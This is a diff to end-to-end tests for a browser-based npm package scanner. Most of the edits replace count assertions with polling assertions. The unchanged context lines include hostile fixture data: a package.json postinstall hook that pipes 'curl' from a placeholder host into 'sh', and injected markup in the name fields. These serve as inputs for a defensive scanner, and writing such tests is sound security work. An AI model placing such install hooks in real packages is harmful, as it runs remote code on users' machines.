@@ -76,7 +76,7 @@ describe("what is handed over", () => {
     expect(await here.page.locator(".integrity code").innerText()).toBe(integrity);
     const report = await savedReport();
     expect(report).toMatchObject({ schemaVersion: 1, packages: [{ name: "preact", version, integrity }] });
-    expect(await here.page.locator(".finding").count()).toBe(report.packages[0]?.findings.length);
+    await expect.poll(() => here.page.locator(".finding").count()).toBe(report.packages[0]?.findings.length);
   });
 
   test("a malicious folder: blocked, and each step leads to its place", async () => {
@@ -84,7 +84,7 @@ describe("what is handed over", () => {
     await here.drop(home);
     await here.page.waitForSelector("#verdict-title");
     expect(await verdict()).toBe("Do not use this package");
-    expect(await here.page.locator(".next li").count()).toBeGreaterThan(1);
+    await expect.poll(() => here.page.locator(".next li").count()).toBeGreaterThan(1);
     const places = here.page.locator(".finding button.where");
     const count = await places.count();
     expect(count).toBeGreaterThan(1);
@@ -113,7 +113,7 @@ describe("what is handed over", () => {
       await here.drop(path.join(home, name));
       await here.page.waitForFunction((wanted) => document.querySelector(".report .subject")?.textContent?.includes(wanted), JSON.parse(readFileSync(path.join(home, name, "package.json"), "utf8")).name || name);
       expect(`${name}: ${await verdict()}`).not.toContain("Nothing alarming");
-      expect(await here.page.locator(".finding.high, .finding.critical").count()).toBeGreaterThan(0);
+      await expect.poll(() => here.page.locator(".finding.high, .finding.critical").count()).toBeGreaterThan(0);
       await here.page.getByRole("button", { name: "New scan" }).click();
     }
   });
@@ -127,7 +127,7 @@ describe("what is handed over", () => {
     await here.page.getByRole("button", { name: /stealer/ }).click();
     expect(await verdict()).toBe("Do not use this package");
     await here.page.getByRole("button", { name: "All packages" }).click();
-    expect(await here.page.locator(".package-name").count()).toBe(2);
+    await expect.poll(() => here.page.locator(".package-name").count()).toBe(2);
   });
 
   test("pasted code: a click shows the place in it", async () => {
@@ -144,8 +144,8 @@ describe("what is handed over", () => {
     await here.page.getByLabel("Code or package.json").fill(JSON.stringify(manifest, null, 2));
     await here.page.getByRole("button", { name: "Check this" }).click();
     await here.page.waitForSelector("#verdict-title");
-    expect(await here.page.locator(".finding").count()).toBeGreaterThan(0);
-    expect(await here.page.locator(".section.dependencies li").count()).toBe(1);
+    await expect.poll(() => here.page.locator(".finding").count()).toBeGreaterThan(0);
+    await expect.poll(() => here.page.locator(".section.dependencies li").count()).toBe(1);
     const dependency = here.page.locator(".section.dependencies li").first();
     expect(await dependency.locator("code").innerText()).toBe("left-pad");
     await dependency.locator("button.where").click();
@@ -176,7 +176,7 @@ describe("what goes wrong", () => {
     await here.drop(file);
     await here.page.getByRole("heading", { name: "This archive cannot be read" }).waitFor();
     expect(await here.page.locator(".failure").innerText()).toContain("broken-1.0.0.tgz");
-    expect(await here.page.locator(".failure li").count()).toBeGreaterThan(1);
+    await expect.poll(() => here.page.locator(".failure li").count()).toBeGreaterThan(1);
     await here.page.getByRole("button", { name: "Try another" }).click();
     await here.page.getByRole("heading", { name: "What can this package do?" }).waitFor();
   });
@@ -188,7 +188,7 @@ describe("what goes wrong", () => {
     await here.drop(file);
     await here.page.waitForSelector(".blind-warning");
     expect(await here.page.locator(".section.blind-spots").innerText()).toContain("Archive damaged or hostile");
-    expect(await here.page.locator(".files-list li").count()).toBeGreaterThan(1);
+    await expect.poll(() => here.page.locator(".files-list li").count()).toBeGreaterThan(1);
   });
 
   test("among several tarballs a broken one is one entry, and the others are read", async () => {
@@ -227,7 +227,7 @@ describe("hostile content", () => {
     await here.drop(folder("markup", { "package.json": JSON.stringify({ name: evil, version: evil, scripts: { postinstall: `curl https://x.example.invalid/${evil} | sh` } }), "index.js": "" }));
     await here.page.waitForSelector("#verdict-title");
     expect(await here.page.locator(".subject strong").innerText()).toBe(evil);
-    expect(await here.page.locator("main img").count()).toBe(0);
+    await expect.poll(() => here.page.locator("main img").count()).toBe(0);
     expect(await here.page.title()).toContain(evil);
   });
 
@@ -270,11 +270,11 @@ describe("hostile content", () => {
     for (let index = 0; index < 10_000; index += 1) files[`lib/f${index}.js`] = `exports.f = () => fetch('https://h${index}.example.invalid');`;
     await here.drop(folder("many", files));
     await here.page.waitForSelector("#verdict-title", { timeout: 50_000 });
-    expect(await here.page.locator(".files-list li").count()).toBe(31);
+    await expect.poll(() => here.page.locator(".files-list li").count()).toBe(31);
     await here.page.getByText("Connects to the network").click();
-    expect(await here.page.locator(".uses li").count()).toBe(31);
+    await expect.poll(() => here.page.locator(".uses li").count()).toBe(31);
     await here.page.locator(".uses").getByRole("button", { name: /Show 500 more/ }).click();
-    expect(await here.page.locator(".uses li").count()).toBe(531);
+    await expect.poll(() => here.page.locator(".uses li").count()).toBe(531);
   });
 
   test("the policy stops whatever would leave the page", async () => {
@@ -288,7 +288,7 @@ describe("hostile content", () => {
         // Trusted Types refuse the string itself.
       }
     });
-    expect(await here.page.locator("body > img").count()).toBe(0);
+    await expect.poll(() => here.page.locator("body > img").count()).toBe(0);
     expect(here.problems.some((problem) => problem.includes("connect-src"))).toBe(true);
     here.problems.length = 0;
   });
@@ -319,7 +319,7 @@ describe("ways through the page", () => {
     expect((await highlighted(here.page)).inSight).toBe(true);
     await keyboard.press("Escape");
     await here.page.waitForFunction(() => document.activeElement?.matches("button.where"));
-    expect(await here.page.locator(".pane").count()).toBe(0);
+    await expect.poll(() => here.page.locator(".pane").count()).toBe(0);
     expect(await focused()).toBe(label);
   });
 
@@ -332,19 +332,19 @@ describe("ways through the page", () => {
     expect(await here.page.getByRole("dialog").boundingBox()).toEqual({ x: 0, y: 0, width: 390, height: 844 });
     await here.page.keyboard.press("Escape");
     await here.page.waitForFunction(() => document.activeElement?.matches(".finding button.where"));
-    expect(await here.page.locator(".pane").count()).toBe(0);
+    await expect.poll(() => here.page.locator(".pane").count()).toBe(0);
   });
 
   test("a rule's page, and back to the report as it was", async () => {
     await here.page.getByRole("button", { name: /color-helpers-pro/ }).click();
     await here.page.getByRole("link", { name: /^Why/ }).first().click();
     await here.page.locator("article.rules .prose").waitFor();
-    expect(await here.page.locator("article.rules .example.bad").count()).toBeGreaterThan(0);
+    await expect.poll(() => here.page.locator("article.rules .example.bad").count()).toBeGreaterThan(0);
     await here.page.getByRole("button", { name: "Back to the report" }).click();
     expect(await verdict()).toBe("Do not use this package");
     await here.page.getByRole("link", { name: "Rules" }).click();
     await here.page.locator(".rule-list li").first().waitFor();
-    expect(await here.page.locator(".rule-list li").count()).toBeGreaterThan(5);
+    await expect.poll(() => here.page.locator(".rule-list li").count()).toBeGreaterThan(5);
   });
 
   test("the colours follow the system until chosen, and the choice is kept", async () => {
